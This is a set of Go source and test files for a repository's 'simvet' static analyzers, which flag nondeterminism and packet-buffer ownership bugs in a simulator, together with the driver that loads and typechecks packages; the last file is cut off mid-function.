// regression demonstration the acceptance criteria ask for.

func TestWalltime(t *testing.T)     { vettest.Run(t, simvet.WalltimeAnalyzer, "walltime") }
func TestGlobalrand(t *testing.T)   { vettest.Run(t, simvet.GlobalrandAnalyzer, "globalrand") }
func TestMaporder(t *testing.T)     { vettest.Run(t, simvet.MaporderAnalyzer, "maporder") }
func TestTiebreak(t *testing.T)     { vettest.Run(t, simvet.TiebreakAnalyzer, "tiebreak") }
func TestEventcapture(t *testing.T) { vettest.Run(t, simvet.EventcaptureAnalyzer, "eventcapture") }

// TestWalltimeAllow exercises the //simvet:allow path end to end: a justified
// directive suppresses (and is surfaced with its reason), a reasonless one is
// rejected so the diagnostic stays, and a stale directive is itself flagged.
func TestWalltimeAllow(t *testing.T) {
	sups := vettest.Run(t, simvet.WalltimeAnalyzer, "walltime_allow")
	if len(sups) != 2 {
		t.Fatalf("got %d suppressions, want 2 (same-line and line-above directives): %+v", len(sups), sups)
	}
	for _, s := range sups {
		if s.Analyzer != "walltime" {
			t.Errorf("suppression attributed to %q, want walltime", s.Analyzer)
		}
		if s.Reason == "" {
			t.Errorf("suppression at %s recorded without a reason", s.Pos)
		}
	}
	if got := sups[0].Reason; got != "fixture demonstrates a justified suppression" {
		t.Errorf("reason = %q, want the directive's verbatim reason", got)
	}
}

// TestAllowValidator checks directive hygiene reporting. Expectations are
// programmatic because a line comment cannot carry a second // want comment.
func TestAllowValidator(t *testing.T) {
	diags, _ := vettest.RunRaw(t, simvet.AllowAnalyzer, "allowcheck")
	wants := []string{
		"missing its mandatory reason",
		`unknown analyzer "nosuchanalyzer"`,
		"needs an analyzer and a reason",
	}
	if len(diags) != len(wants) {
		t.Fatalf("got %d diagnostics, want %d:\n%v", len(diags), len(wants), diags)
	}
	for i, want := range wants {
		if !strings.Contains(diags[i].Message, want) {
			t.Errorf("diagnostic %d = %q, want substring %q", i, diags[i].Message, want)
		}
	}
	// The fixture has four directives and only three diagnostics: the
	// well-formed maporder directive validates cleanly (checked by the
	// length assertion above), even though it would be stale for maporder.
}

// TestSuiteNames pins the analyzer names: //simvet:allow directives reference
// them in source, so renames are breaking changes.
func TestSuiteNames(t *testing.T) {
	want := []string{"walltime", "globalrand", "maporder", "tiebreak", "eventcapture", "bufleak", "bufuseafter", "eventpool", "simvetallow"}
	all := simvet.All()
	if len(all) != len(want) {
		t.Fatalf("suite has %d analyzers, want %d", len(all), len(want))
	}
	for i, a := range all {
		if a.Name != want[i] {
			t.Errorf("analyzer %d = %q, want %q", i, a.Name, want[i])
		}
		if a.Doc == "" {
			t.Errorf("analyzer %q has no Doc", a.Name)
		}
	}
}
