package analysis_test

import (
	"strings"
	"testing"

	simvet "repro/internal/analysis"
	"repro/internal/analysis/bufcheck"
	"repro/internal/analysis/vettest"
)

// The bufcheck suite's positive/negative behavior lives in fixture packages
// under testdata/src, like the determinism analyzers': every want line is a
// deliberate violation, every good* function a sanctioned pattern. The
// fixtures import the real repro/internal/pkt and repro/internal/sim, so the
// analyzers are exercised against the genuine Buf/Kernel APIs rather than
// mocks.

func TestBufleak(t *testing.T)     { vettest.Run(t, bufcheck.BufleakAnalyzer, "bufleak") }
func TestBufuseafter(t *testing.T) { vettest.Run(t, bufcheck.BufuseafterAnalyzer, "bufuseafter") }
func TestEventpool(t *testing.T)   { vettest.Run(t, bufcheck.EventpoolAnalyzer, "eventpool") }

// TestBufleakSeededBug is the acceptance check for the analyzer's reason to
// exist: bufleak_ipv4 replicates the internal/ipv4 SendBuf shape with the
// error-path Release deliberately deleted, and bufleak must report exactly
// that injected leak (the fixture's only want line).
func TestBufleakSeededBug(t *testing.T) {
	vettest.Run(t, bufcheck.BufleakAnalyzer, "bufleak_ipv4")
	diags, _ := vettest.RunRaw(t, bufcheck.BufleakAnalyzer, "bufleak_ipv4")
	if len(diags) != 1 {
		t.Fatalf("seeded-bug fixture: got %d diagnostics, want exactly the injected leak:\n%v", len(diags), diags)
	}
	if !strings.Contains(diags[0].Message, `buffer "pb"`) || !strings.Contains(diags[0].Message, "still owned at this return") {
		t.Errorf("seeded-bug diagnostic = %q, want the owned-at-return leak", diags[0].Message)
	}
}

// TestBufleakMultiFile proves contracts declared in one file govern call
// sites in another file of the same package: the vettest harness loads every
// fixture file, and the analyzer's self-recording facts pass sees them all.
func TestBufleakMultiFile(t *testing.T) {
	vettest.Run(t, bufcheck.BufleakAnalyzer, "bufleak_multi")
	diags, _ := vettest.RunRaw(t, bufcheck.BufleakAnalyzer, "bufleak_multi")
	if len(diags) != 2 {
		t.Fatalf("multi-file fixture: got %d diagnostics, want 2 (one per caller bug in callers.go):\n%v", len(diags), diags)
	}
	for _, d := range diags {
		if !strings.HasSuffix(d.Pos.Filename, "callers.go") {
			t.Errorf("diagnostic at %s, want all in callers.go (sinks.go declares clean contracts)", d.Pos)
		}
	}
}

// TestOwnerValidator checks //simvet:owner hygiene reporting by the
// simvetallow analyzer. Expectations are programmatic because a line comment
// cannot carry a want comment about itself.
func TestOwnerValidator(t *testing.T) {
	diags, _ := vettest.RunRaw(t, simvet.AllowAnalyzer, "ownercheck")
	wants := []string{
		`unknown mode "steal"`,
		"missing its mandatory reason",
		"needs a mode and a reason",
		`stale //simvet:owner transfer directive: stale has no \*pkt.Buf parameter`,
		"must sit in the doc comment of the function",
	}
	if len(diags) != len(wants) {
		t.Fatalf("got %d diagnostics, want %d:\n%v", len(diags), len(wants), diags)
	}
	for i, want := range wants {
		if !strings.Contains(diags[i].Message, strings.ReplaceAll(want, `\*`, "*")) {
			t.Errorf("diagnostic %d = %q, want substring %q", i, diags[i].Message, want)
		}
	}
	// The fixture's wellFormed directive validates cleanly (covered by the
	// length assertion): a valid transfer contract on a *pkt.Buf-taking
	// function produces no hygiene diagnostic.
}

// TestBufleakSuppression pins the //simvet:allow escape hatch for the
// bufcheck analyzers: the bufleak fixture ends with a justified suppression
// whose reason must surface verbatim.
func TestBufleakSuppression(t *testing.T) {
	sups := vettest.Run(t, bufcheck.BufleakAnalyzer, "bufleak")
	var found bool
	for _, s := range sups {
		if s.Analyzer == "bufleak" && s.Reason == "fixture demonstrates a justified suppression" {
			found = true
		}
	}
	if !found {
		t.Errorf("expected a bufleak suppression with the fixture's verbatim reason, got %+v", sups)
	}
}
