package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// ownerPrefix is the ownership-contract directive marker. The full grammar is
//
//	//simvet:owner transfer|borrow <reason…>
//
// placed in the doc comment of a function or method declaration that has at
// least one *pkt.Buf parameter. The mode declares, for every *pkt.Buf
// parameter of that function, who holds the release obligation after the
// call:
//
//	transfer — the callee takes ownership: it must Release or forward every
//	           owned buffer parameter on every path, and the caller must not
//	           touch the buffer afterwards without having Retained first.
//	borrow   — the callee only borrows: the caller keeps ownership and the
//	           obligation; the callee must not Release or store the buffer.
//
// Like //simvet:allow, the reason is mandatory and directive hygiene is
// validated by the simvetallow analyzer: unknown modes, missing reasons,
// directives floating outside a function's doc comment, and stale directives
// on functions with no *pkt.Buf parameter are all reported. The bufcheck
// analyzers (internal/analysis/bufcheck) consume the parsed directives as
// call-site contracts.
const ownerPrefix = "//simvet:owner"

// OwnerMode is a declared ownership convention for a function's *pkt.Buf
// parameters.
type OwnerMode int

// The two declarable conventions, plus the zero "no contract known" value.
const (
	OwnerUnknown OwnerMode = iota
	OwnerTransfer
	OwnerBorrow
)

// String names the mode with its directive spelling.
func (m OwnerMode) String() string {
	switch m {
	case OwnerTransfer:
		return "transfer"
	case OwnerBorrow:
		return "borrow"
	}
	return "unknown"
}

// OwnerDirective is one parsed //simvet:owner comment.
type OwnerDirective struct {
	Pos     token.Pos
	Mode    OwnerMode // OwnerUnknown when ModeStr is not a known mode
	ModeStr string    // the raw mode token, for diagnostics
	Reason  string
	// Decl is the function declaration whose doc comment group contains the
	// directive; nil when the directive floats unattached to any function.
	Decl *ast.FuncDecl
	// Fn is Decl's resolved type object (nil when Decl is nil or unresolved).
	Fn *types.Func
}

// WellFormed reports whether the directive passes hygiene validation: known
// mode, mandatory reason, attached to a function that actually has a *pkt.Buf
// parameter. Only well-formed directives establish a contract.
func (d *OwnerDirective) WellFormed() bool {
	return d.Mode != OwnerUnknown && d.Reason != "" && d.Fn != nil && HasBufParam(d.Fn)
}

// scanDirectives is the single directive-scanning pass shared by the rule
// reporters, the simvetallow validator, and the bufcheck facts builder: it
// walks every comment of the files once and returns the parsed //simvet:allow
// and //simvet:owner directives together.
func scanDirectives(fset *token.FileSet, files []*ast.File, info *types.Info) ([]directive, []OwnerDirective) {
	// Map each comment group to the function declaration it documents, so an
	// owner directive can be attached to its subject.
	docOf := make(map[*ast.CommentGroup]*ast.FuncDecl)
	for _, f := range files {
		for _, decl := range f.Decls {
			if fd, ok := decl.(*ast.FuncDecl); ok && fd.Doc != nil {
				docOf[fd.Doc] = fd
			}
		}
	}

	var allows []directive
	var owners []OwnerDirective
	for _, f := range files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				switch {
				case directiveText(c.Text, allowPrefix) != "":
					rest := directiveText(c.Text, allowPrefix)
					fields := strings.Fields(rest)
					d := directive{pos: c.Pos()}
					p := fset.Position(c.Pos())
					d.file, d.line = p.Filename, p.Line
					if len(fields) > 0 {
						d.analyzer = fields[0]
					}
					if len(fields) > 1 {
						d.reason = strings.Join(fields[1:], " ")
					}
					allows = append(allows, d)
				case directiveText(c.Text, ownerPrefix) != "":
					rest := directiveText(c.Text, ownerPrefix)
					fields := strings.Fields(rest)
					od := OwnerDirective{Pos: c.Pos(), Decl: docOf[cg]}
					if len(fields) > 0 {
						od.ModeStr = fields[0]
						switch fields[0] {
						case "transfer":
							od.Mode = OwnerTransfer
						case "borrow":
							od.Mode = OwnerBorrow
						}
					}
					if len(fields) > 1 {
						od.Reason = strings.Join(fields[1:], " ")
					}
					if od.Decl != nil && info != nil {
						if fn, ok := info.Defs[od.Decl.Name].(*types.Func); ok {
							od.Fn = fn
						}
					}
					owners = append(owners, od)
				}
			}
		}
	}
	return allows, owners
}

// directiveText returns the directive body when text starts with prefix as a
// whole marker (followed by whitespace or nothing), and "" otherwise. A bare
// directive returns " " so the caller can still tell it matched.
func directiveText(text, prefix string) string {
	if !strings.HasPrefix(text, prefix) {
		return ""
	}
	rest := strings.TrimPrefix(text, prefix)
	if rest == "" {
		return " "
	}
	if rest[0] != ' ' && rest[0] != '\t' {
		return "" // e.g. //simvet:ownership — not our directive
	}
	return rest
}

// ParseOwnerDirectives scans files for //simvet:owner directives, resolving
// each to the function declaration whose doc comment carries it. Malformed
// directives are returned too; hygiene policy belongs to the simvetallow
// validator, contract policy to bufcheck.
func ParseOwnerDirectives(fset *token.FileSet, files []*ast.File, info *types.Info) []OwnerDirective {
	_, owners := scanDirectives(fset, files, info)
	return owners
}

// IsBufPtr reports whether t is *pkt.Buf: a pointer to a named type Buf
// declared in a package named pkt. Matching by package name rather than
// import path keeps the check working in single-package test fixtures, the
// same trade the maporder analyzer makes for sim.Kernel.
func IsBufPtr(t types.Type) bool {
	ptr, ok := t.(*types.Pointer)
	if !ok {
		return false
	}
	named, ok := ptr.Elem().(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Name() == "Buf" && obj.Pkg() != nil && obj.Pkg().Name() == "pkt"
}

// HasBufParam reports whether fn has at least one *pkt.Buf parameter (or a
// *pkt.Buf receiver would not count: the receiver's lifecycle belongs to the
// pkt package itself).
func HasBufParam(fn *types.Func) bool {
	sig, ok := fn.Type().(*types.Signature)
	if !ok {
		return false
	}
	params := sig.Params()
	for i := 0; i < params.Len(); i++ {
		if IsBufPtr(params.At(i).Type()) {
			return true
		}
	}
	return false
}
