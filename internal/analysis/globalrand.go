package analysis

import (
	"go/ast"
	"go/types"
	"strconv"

	"golang.org/x/tools/go/analysis"
	"golang.org/x/tools/go/analysis/passes/inspect"
	"golang.org/x/tools/go/ast/inspector"
)

// randConstructors are the math/rand functions that build an explicit,
// caller-seeded generator. Those are fine when the seed is plumbed from the
// kernel; it is the implicit process-global source (rand.Intn, rand.Float64,
// …) that silently couples a run to everything else in the process.
var randConstructors = map[string]bool{
	"New":        true,
	"NewSource":  true,
	"NewZipf":    true,
	"NewPCG":     true, // math/rand/v2
	"NewChaCha8": true, // math/rand/v2
}

// GlobalrandAnalyzer forbids the global math/rand source and all of
// crypto/rand in the deterministic core. Every stochastic decision must draw
// from the kernel-seeded sim.RNG so a run is a pure function of its seed;
// even the WEP/VPN "crypto" randomness is explicit and seeded (see
// internal/sim/rng.go).
var GlobalrandAnalyzer = &analysis.Analyzer{
	Name:       "globalrand",
	Doc:        "forbid global math/rand and crypto/rand in deterministic paths; use the kernel-seeded sim.RNG",
	Requires:   []*analysis.Analyzer{inspect.Analyzer},
	ResultType: SuppressionsType,
	Run:        runGlobalrand,
}

func runGlobalrand(pass *analysis.Pass) (any, error) {
	rep := NewReporter(pass)
	if !deterministicScope(pass.Pkg.Path()) {
		return rep.Finish(), nil
	}
	insp := pass.ResultOf[inspect.Analyzer].(*inspector.Inspector)
	insp.Preorder([]ast.Node{(*ast.ImportSpec)(nil), (*ast.SelectorExpr)(nil)}, func(n ast.Node) {
		switch n := n.(type) {
		case *ast.ImportSpec:
			if path, err := strconv.Unquote(n.Path.Value); err == nil && path == "crypto/rand" {
				rep.Reportf(n, "crypto/rand reads host entropy and can never replay; deterministic paths must draw from the kernel RNG (sim.Kernel.RNG)")
			}
		case *ast.SelectorExpr:
			obj := pass.TypesInfo.Uses[n.Sel]
			if obj == nil || obj.Pkg() == nil {
				return
			}
			path := obj.Pkg().Path()
			if path != "math/rand" && path != "math/rand/v2" {
				return
			}
			fn, ok := obj.(*types.Func)
			if !ok || fn.Type().(*types.Signature).Recv() != nil {
				return // methods on an explicit *rand.Rand are caller-seeded
			}
			if randConstructors[obj.Name()] {
				return
			}
			rep.Reportf(n, "%s.%s draws from the shared process-global source; plumb the kernel-seeded RNG (sim.Kernel.RNG) instead", path, obj.Name())
		}
	})
	return rep.Finish(), nil
}
