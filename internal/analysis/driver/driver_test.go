package driver_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	simvet "repro/internal/analysis"
	"repro/internal/analysis/driver"
)

// TestEndToEnd drives the loader against a throwaway module with one
// violation per analyzer, proving the go-list/typecheck/run pipeline works
// outside this repository and that diagnostics come back position-sorted.
func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("shells out to the go tool; skipped in -short")
	}
	dir := t.TempDir()
	write := func(name, src string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module tmpmod\n\ngo 1.22\n")
	if err := os.MkdirAll(filepath.Join(dir, "internal", "sim"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(filepath.Join("internal", "sim", "sim.go"), `package sim

import (
	"math/rand"
	"sort"
	"time"
)

type Kernel struct{}

func (k *Kernel) After(d int, fn func()) {}

func Violations(k *Kernel, m map[string]float64) []string {
	_ = time.Now()   // walltime
	_ = rand.Intn(6) // globalrand
	var keys []string
	for name := range m {
		keys = append(keys, name) // maporder: never sorted
	}
	vals := []float64{1, 2}
	sort.Slice(vals, func(i, j int) bool { return vals[i] < vals[j] }) // tiebreak
	for i := 0; i < len(keys); i++ {
		k.After(1, func() { _ = keys[i] }) // eventcapture
	}
	return keys
}
`)
	res, err := driver.Run(dir, []string{"./..."}, simvet.All())
	if err != nil {
		t.Fatalf("driver.Run: %v", err)
	}
	byAnalyzer := map[string]int{}
	for _, d := range res.Diagnostics {
		byAnalyzer[d.Analyzer]++
	}
	for _, name := range []string{"walltime", "globalrand", "maporder", "tiebreak", "eventcapture"} {
		if byAnalyzer[name] == 0 {
			t.Errorf("analyzer %s reported nothing; diagnostics:\n%s", name, dump(res))
		}
	}
	for i := 1; i < len(res.Diagnostics); i++ {
		a, b := res.Diagnostics[i-1].Pos, res.Diagnostics[i].Pos
		if a.Filename == b.Filename && a.Line > b.Line {
			t.Errorf("diagnostics not position-sorted: %v before %v", a, b)
		}
	}
}

func dump(res *driver.Result) string {
	var sb strings.Builder
	for _, d := range res.Diagnostics {
		sb.WriteString(d.String())
		sb.WriteByte('\n')
	}
	return sb.String()
}
