package driver_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	simvet "repro/internal/analysis"
	"repro/internal/analysis/driver"
)

// TestEndToEnd drives the loader against a throwaway module with one
// violation per analyzer, proving the go-list/typecheck/run pipeline works
// outside this repository and that diagnostics come back position-sorted.
func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("shells out to the go tool; skipped in -short")
	}
	dir := t.TempDir()
	write := func(name, src string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module tmpmod\n\ngo 1.22\n")
	for _, sub := range []string{"sim", "pkt", "link", "app"} {
		if err := os.MkdirAll(filepath.Join(dir, "internal", sub), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join("internal", "sim", "sim.go"), `package sim

import (
	"math/rand"
	"sort"
	"time"
)

type Kernel struct{}

type Event struct{}

func (e *Event) Cancel() {}

func (k *Kernel) After(d int, fn func()) *Event { return &Event{} }

func Violations(k *Kernel, m map[string]float64) []string {
	_ = time.Now()   // walltime
	_ = rand.Intn(6) // globalrand
	var keys []string
	for name := range m {
		keys = append(keys, name) // maporder: never sorted
	}
	vals := []float64{1, 2}
	sort.Slice(vals, func(i, j int) bool { return vals[i] < vals[j] }) // tiebreak
	for i := 0; i < len(keys); i++ {
		k.After(1, func() { _ = keys[i] }) // eventcapture + eventpool (discarded handle)
	}
	return keys
}
`)
	write(filepath.Join("internal", "pkt", "pkt.go"), `package pkt

type Buf struct{ n int }

func (b *Buf) Release()    {}
func (b *Buf) Retain() *Buf { return b }
func (b *Buf) Len() int    { return b.n }

type Pool struct{}

func (p *Pool) Get() *Buf { return &Buf{} }
`)
	// The ownership contract lives in a different package than its caller, so
	// this exercises the driver's cross-package facts pre-pass, not just the
	// analyzers' own-package scan.
	write(filepath.Join("internal", "link", "link.go"), `package link

import "tmpmod/internal/pkt"

// Consume takes ownership.
//
//simvet:owner transfer end-to-end fixture sink
func Consume(pb *pkt.Buf) {
	pb.Release()
}
`)
	write(filepath.Join("internal", "app", "app.go"), `package app

import (
	"tmpmod/internal/link"
	"tmpmod/internal/pkt"
	"tmpmod/internal/sim"
)

func FireAndForget(k *sim.Kernel) {
	k.After(5, func() {}) // eventpool: discarded handle outside package sim
}

func Leaky(p *pkt.Pool, drop bool) {
	pb := p.Get()
	if drop {
		return // bufleak: still owned here
	}
	link.Consume(pb)
}

func Stale(p *pkt.Pool) int {
	pb := p.Get()
	pb.Release()
	return pb.Len() // bufuseafter
}
`)
	res, err := driver.Run(dir, []string{"./..."}, simvet.All())
	if err != nil {
		t.Fatalf("driver.Run: %v", err)
	}
	byAnalyzer := map[string]int{}
	for _, d := range res.Diagnostics {
		byAnalyzer[d.Analyzer]++
	}
	for _, name := range []string{"walltime", "globalrand", "maporder", "tiebreak", "eventcapture", "bufleak", "bufuseafter", "eventpool"} {
		if byAnalyzer[name] == 0 {
			t.Errorf("analyzer %s reported nothing; diagnostics:\n%s", name, dump(res))
		}
	}
	// The driver promises the full deterministic total order, not just
	// file/line grouping: re-sorting must be the identity.
	sorted := append([]driver.Diagnostic(nil), res.Diagnostics...)
	driver.SortDiagnostics(sorted)
	for i := range sorted {
		if sorted[i] != res.Diagnostics[i] {
			t.Errorf("diagnostics not in total order at index %d: got %v, want %v", i, res.Diagnostics[i], sorted[i])
		}
	}
}

func dump(res *driver.Result) string {
	var sb strings.Builder
	for _, d := range res.Diagnostics {
		sb.WriteString(d.String())
		sb.WriteByte('\n')
	}
	return sb.String()
}
