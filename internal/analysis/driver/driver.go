// Package driver loads and typechecks Go packages from source and runs
// go/analysis analyzers over them.
//
// The upstream multichecker drives analyzers through go/packages, which this
// repository deliberately does not depend on (the module vendors only the
// tiny go/analysis core). Instead the driver shells out to `go list -e -json
// -deps` once for package metadata, then parses and typechecks every package
// — including the standard-library closure — from source in dependency
// order. That is slower than reading export data but needs nothing beyond
// the go toolchain itself, and simvet's whole-repo run stays well under CI
// noise level.
package driver

import (
	"bytes"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"

	"golang.org/x/tools/go/analysis"

	simvet "repro/internal/analysis"
	"repro/internal/analysis/bufcheck"
)

// listPkg is the subset of `go list -json` output the driver consumes.
type listPkg struct {
	Dir        string
	ImportPath string
	Name       string
	Standard   bool
	DepOnly    bool
	GoFiles    []string
	Imports    []string
	// ImportMap maps source-literal import paths to resolved package paths
	// (std-vendored deps, e.g. golang.org/x/net/... → vendor/golang.org/...).
	ImportMap map[string]string
	Error     *struct{ Err string }
}

// Diagnostic is one analyzer finding, position-resolved.
type Diagnostic struct {
	Pos      token.Position
	Analyzer string
	Message  string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: %s (%s)", d.Pos, d.Message, d.Analyzer)
}

// Result is the outcome of a Run over a set of packages.
type Result struct {
	Diagnostics  []Diagnostic
	Suppressions []simvet.Suppression
	Packages     int // packages analyzed (not counting dependencies)
}

// pkgData is everything the loader retains about one typechecked package.
// Syntax and type info are kept only for packages marked wantInfo (the
// analysis targets); dependencies keep just the *types.Package.
type pkgData struct {
	pkg   *types.Package
	files []*ast.File
	info  *types.Info
}

// Loader incrementally typechecks packages from source into a shared
// FileSet, memoizing by import path. Each package is typechecked exactly
// once, so type identities stay consistent across the whole universe.
type Loader struct {
	Dir      string // directory the go tool runs in
	Fset     *token.FileSet
	data     map[string]*pkgData
	meta     map[string]*listPkg
	wantInfo map[string]bool
}

// NewLoader returns a loader rooted at dir (any directory inside a module).
func NewLoader(dir string) *Loader {
	return &Loader{
		Dir:      dir,
		Fset:     token.NewFileSet(),
		data:     make(map[string]*pkgData),
		meta:     make(map[string]*listPkg),
		wantInfo: make(map[string]bool),
	}
}

// list runs `go list -e -json -deps` for patterns and records metadata for
// every package in the transitive closure.
func (l *Loader) list(patterns []string) ([]*listPkg, error) {
	args := append([]string{"list", "-e", "-json", "-deps", "--"}, patterns...)
	cmd := exec.Command("go", args...)
	cmd.Dir = l.Dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("go list %s: %v\n%s", strings.Join(patterns, " "), err, stderr.String())
	}
	var loaded []*listPkg
	dec := json.NewDecoder(bytes.NewReader(out))
	for {
		p := new(listPkg)
		if err := dec.Decode(p); err == io.EOF {
			break
		} else if err != nil {
			return nil, fmt.Errorf("go list: decoding: %v", err)
		}
		if p.Error != nil {
			return nil, fmt.Errorf("go list: %s: %s", p.ImportPath, p.Error.Err)
		}
		if _, ok := l.meta[p.ImportPath]; !ok {
			l.meta[p.ImportPath] = p
		}
		loaded = append(loaded, p)
	}
	return loaded, nil
}

// LoadTypes ensures every package matched by patterns (and the transitive
// dependency closure) has been typechecked, and returns the matched
// (non-DepOnly) metadata in stable order. Packages already typechecked keep
// their identities; new ones join the same universe.
func (l *Loader) LoadTypes(patterns []string) ([]*listPkg, error) {
	loaded, err := l.list(patterns)
	if err != nil {
		return nil, err
	}
	var targets []*listPkg
	for _, p := range loaded {
		if _, err := l.typesFor(p.ImportPath); err != nil {
			return nil, err
		}
		if !p.DepOnly {
			targets = append(targets, p)
		}
	}
	sort.Slice(targets, func(i, j int) bool { return targets[i].ImportPath < targets[j].ImportPath })
	return targets, nil
}

// typesFor typechecks the package (memoized, exactly once), recursing into
// imports first. Packages marked wantInfo before the first load keep their
// syntax trees and full type information for analysis.
func (l *Loader) typesFor(path string) (*pkgData, error) {
	if path == "unsafe" {
		return &pkgData{pkg: types.Unsafe}, nil
	}
	if d, ok := l.data[path]; ok {
		return d, nil
	}
	meta := l.meta[path]
	if meta == nil {
		return nil, fmt.Errorf("driver: no metadata for %q", path)
	}
	// Dependencies first (identity-mapped and vendor-remapped alike).
	for _, imp := range meta.Imports {
		if imp == "unsafe" || imp == "C" {
			continue
		}
		if _, err := l.typesFor(imp); err != nil {
			return nil, err
		}
	}

	var info *types.Info
	mode := parser.SkipObjectResolution
	if l.wantInfo[path] {
		mode |= parser.ParseComments
		info = newInfo()
	}
	files := make([]*ast.File, 0, len(meta.GoFiles))
	for _, name := range meta.GoFiles {
		f, err := parser.ParseFile(l.Fset, filepath.Join(meta.Dir, name), nil, mode)
		if err != nil {
			return nil, fmt.Errorf("driver: parsing %s: %v", name, err)
		}
		files = append(files, f)
	}

	var typeErrs []error
	conf := &types.Config{
		Importer:    &pkgImporter{loader: l, importMap: meta.ImportMap},
		Sizes:       types.SizesFor("gc", runtime.GOARCH),
		FakeImportC: true,
		Error:       func(err error) { typeErrs = append(typeErrs, err) },
	}
	tpkg, _ := conf.Check(path, l.Fset, files, info)
	if len(typeErrs) > 0 {
		return nil, fmt.Errorf("driver: typechecking %s: %v (and %d more)", path, typeErrs[0], len(typeErrs)-1)
	}
	d := &pkgData{pkg: tpkg, files: files, info: info}
	l.data[path] = d
	return d, nil
}

// pkgImporter resolves the literal import strings of one package against the
// loader's typechecked universe, honoring go list's ImportMap.
type pkgImporter struct {
	loader    *Loader
	importMap map[string]string
}

func (pi *pkgImporter) Import(path string) (*types.Package, error) {
	if path == "unsafe" {
		return types.Unsafe, nil
	}
	if mapped, ok := pi.importMap[path]; ok {
		path = mapped
	}
	if d := pi.loader.data[path]; d != nil && d.pkg != nil {
		return d.pkg, nil
	}
	return nil, fmt.Errorf("driver: import %q not loaded", path)
}

// StdImporter returns an importer that resolves identity-mapped import paths
// against everything the loader has typechecked so far. The vettest harness
// uses it to typecheck fixture packages against a preloaded std universe.
func (l *Loader) StdImporter() types.Importer {
	return &pkgImporter{loader: l}
}

// newInfo returns a types.Info with every map populated, as analyzers expect.
func newInfo() *types.Info {
	return &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Instances:  make(map[*ast.Ident]types.Instance),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
}

// Run loads the packages matched by patterns in dir, applies the analyzers
// to each matched (non-dependency) package, and returns position-sorted
// diagnostics plus the //simvet:allow suppression notes.
func Run(dir string, patterns []string, analyzers []*analysis.Analyzer) (*Result, error) {
	if err := analysis.Validate(analyzers); err != nil {
		return nil, err
	}
	l := NewLoader(dir)
	// Two passes over go list: a cheap metadata-only listing to learn which
	// packages are analysis targets (so they are typechecked with full info
	// the one time they are typechecked), then the real load.
	pre, err := l.list(patterns)
	if err != nil {
		return nil, err
	}
	for _, p := range pre {
		if !p.DepOnly {
			l.wantInfo[p.ImportPath] = true
		}
	}
	targets, err := l.LoadTypes(patterns)
	if err != nil {
		return nil, err
	}
	res := &Result{}
	// Facts pre-pass: record every target's //simvet:owner contracts before
	// analyzing any of them. Ownership directives are declared at definitions
	// but consumed at call sites in other packages, and package analysis order
	// must not decide whether a cross-package contract is visible.
	for _, meta := range targets {
		if len(meta.GoFiles) == 0 {
			continue
		}
		d, err := l.typesFor(meta.ImportPath)
		if err != nil {
			return nil, err
		}
		bufcheck.RecordOwnerFacts(l.Fset, d.files, d.info)
	}
	for _, meta := range targets {
		if len(meta.GoFiles) == 0 {
			continue
		}
		d, err := l.typesFor(meta.ImportPath)
		if err != nil {
			return nil, err
		}
		diags, sups, err := RunAnalyzers(l.Fset, d.files, d.pkg, d.info, analyzers)
		if err != nil {
			return nil, fmt.Errorf("%s: %v", meta.ImportPath, err)
		}
		res.Diagnostics = append(res.Diagnostics, diags...)
		res.Suppressions = append(res.Suppressions, sups...)
		res.Packages++
	}
	SortDiagnostics(res.Diagnostics)
	SortSuppressions(res.Suppressions)
	return res, nil
}

// SortDiagnostics orders diagnostics by (file, line, analyzer, column,
// message) — a total order, so two runs over the same tree print (and
// JSON-encode) byte-identical output regardless of package-load or analyzer
// scheduling order.
func SortDiagnostics(diags []Diagnostic) {
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Message < b.Message
	})
}

// SortSuppressions orders suppression notes with the same total order as
// diagnostics.
func SortSuppressions(sups []simvet.Suppression) {
	sort.Slice(sups, func(i, j int) bool {
		a, b := sups[i], sups[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Message < b.Message
	})
}

// RunAnalyzers applies analyzers (resolving Requires dependencies such as the
// inspect pass) to a single typechecked package. It is the building block
// shared by Run and by the vettest harness.
func RunAnalyzers(fset *token.FileSet, files []*ast.File, pkg *types.Package, info *types.Info, analyzers []*analysis.Analyzer) ([]Diagnostic, []simvet.Suppression, error) {
	results := make(map[*analysis.Analyzer]any)
